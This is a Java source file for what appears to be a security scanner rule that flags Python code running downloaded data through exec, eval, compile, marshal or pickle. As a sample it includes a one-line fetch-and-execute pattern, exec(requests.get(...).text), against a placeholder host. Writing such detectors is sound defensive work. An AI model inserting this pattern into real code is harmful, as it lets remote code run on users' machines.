package dev.kingsnake.rules.exec;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.python.Expr;

import java.util.Set;

/** exec/eval/compile/marshal/pickle of data that came from the network. */
public final class DownloadedCodeExecutionRule implements PythonFileRule {
    static final RuleInfo INFO = new RuleInfo("KS-EXEC-DOWNLOADED-CODE",
            "Runs code downloaded from the network (exec/eval/compile/marshal/pickle of a response)",
            Severity.CRITICAL, Confidence.HIGH,
            Set.of(Tags.EXECUTE, Tags.DOWNLOAD, Tags.NETWORK, Tags.STRONG),
            "exec(requests.get('https://example.invalid/p.txt').text)",
            "Benign code almost never executes what it downloads; plugin systems that do so are rare and "
                    + "should be reviewed. Data is followed through simple assignments and with-blocks only.");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CodeFacts facts = CodeFacts.of(file);
        for (Expr.Call c : file.calls()) {
            ExecSinks.of(facts, c).ifPresent(u -> {
                if (u.taint().contains(CodeFacts.Taint.NETWORK)) {
                    sink.report(Location.of(file, c), u.sink() + "() runs data fetched from the network",
                            ExecSinks.snippet(file.line(c.line())));
                }
            });
        }
    }
}
